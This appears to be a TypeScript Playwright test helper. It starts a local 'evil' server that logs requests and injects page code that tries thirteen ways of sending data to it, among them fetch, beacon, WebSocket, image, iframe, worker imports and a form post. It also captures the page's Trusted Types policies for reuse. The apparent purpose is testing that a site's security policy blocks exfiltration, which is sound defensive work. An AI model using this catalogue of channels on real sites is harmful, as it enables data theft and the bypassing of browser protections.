// A server of somebody else that takes whatever it is sent and notes it, and every way a page could send something.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';

export interface Evil {
  readonly address: string;
  /** Names of the ways that arrived here. */
  readonly hits: Set<string>;
  close(): void;
}

const ANYTHING = {
  'Access-Control-Allow-Origin': '*',
  'Access-Control-Allow-Headers': '*',
  'Access-Control-Allow-Methods': '*',
  'Cross-Origin-Resource-Policy': 'cross-origin'
};

/** Answers every request with permission. */
export async function openEvil(): Promise<Evil> {
  const hits = new Set<string>();
  // The browser asks for an icon by itself wherever the form has led it.
  const note = (url = '/') => url !== '/favicon.ico' && hits.add(url.slice(1));
  const server: Server = createServer((request, response) => {
    note(request.url);
    response.writeHead(200, ANYTHING).end();
  });
  server.on('upgrade', (request, socket) => {
    note(request.url);
    socket.destroy();
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const { port } = server.address() as AddressInfo;
  return {
    address: `http://127.0.0.1:${port}`,
    hits,
    close: () => {
      server.closeAllConnections();
      server.close();
    }
  };
}

/** What the ways of `tryEveryWay` are called where they arrive. */
export const WAYS = [
  'fetch',
  'request',
  'beacon',
  'socket',
  'events',
  'image',
  'prefetch',
  'style',
  'frame',
  'worker-fetch',
  'worker-import',
  'worker-socket',
  'form'
] as const;

interface ScriptPolicy {
  createScriptURL(url: string): string;
}

interface PolicyFactory {
  createPolicy(name: string, rules: object): ScriptPolicy;
}

/** Keeps the page's own Trusted Types policies where an attacker inside the page could reach them. */
export async function keepPolicies(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const kept: Record<string, ScriptPolicy> = {};
    const { trustedTypes } = globalThis as unknown as { trustedTypes: PolicyFactory };
    const make = trustedTypes.createPolicy.bind(trustedTypes);
    trustedTypes.createPolicy = (name, rules) => (kept[name] = make(name, rules));
    Object.assign(globalThis, { kept });
  });
}

/** Sends something to `address` in each of the ways, as code inside the page would, and gives them time to arrive. */
export async function tryEveryWay(page: Page, address: string): Promise<void> {
  await page.evaluate(async (to) => {
    const quietly = (way: () => unknown) => {
      try {
        void Promise.resolve(way()).catch(() => undefined);
      } catch {
        // Refused at once: nothing was sent.
      }
    };
    const added = (name: string, properties: object) =>
      document.body.append(Object.assign(document.createElement(name), properties));
    const script = `
      const quietly = (way) => { try { Promise.resolve(way()).catch(() => {}); } catch {} };
      const rules = { createScriptURL: (url) => url };
      const trusted = self.trustedTypes?.createPolicy('evenkeel-worker', rules) ?? rules;
      quietly(() => fetch('${to}/worker-fetch', { mode: 'no-cors' }));
      quietly(() => new WebSocket('${to.replace('http', 'ws')}/worker-socket'));
      quietly(() => importScripts(trusted.createScriptURL('${to}/worker-import')));
      postMessage('tried');
    `;
    const blob = URL.createObjectURL(new Blob([script], { type: 'text/javascript' }));
    const policy = (globalThis as unknown as { kept?: Record<string, ScriptPolicy> }).kept?.[
      'evenkeel-worker'
    ];
    const worker = new Worker(policy?.createScriptURL(blob) ?? blob);
    const workerTried = new Promise((tried) => (worker.onmessage = tried));

    quietly(() => fetch(`${to}/fetch`, { mode: 'no-cors' }));
    quietly(() => {
      const request = new XMLHttpRequest();
      request.open('GET', `${to}/request`);
      request.send();
    });
    quietly(() => navigator.sendBeacon(`${to}/beacon`, 'officers'));
    quietly(() => new WebSocket(`${to.replace('http', 'ws')}/socket`));
    quietly(() => new EventSource(`${to}/events`));
    quietly(() => added('img', { src: `${to}/image` }));
    quietly(() => added('link', { rel: 'prefetch', href: `${to}/prefetch` }));
    quietly(() => added('link', { rel: 'stylesheet', href: `${to}/style` }));
    quietly(() => added('iframe', { src: `${to}/frame` }));
    await workerTried;
    await new Promise((later) => setTimeout(later, 1000));
    quietly(() => {
      const form = Object.assign(document.createElement('form'), { method: 'post', action: `${to}/form` });
      document.body.append(form);
      form.submit();
    });
  }, address);
  await page.waitForTimeout(1000);
}
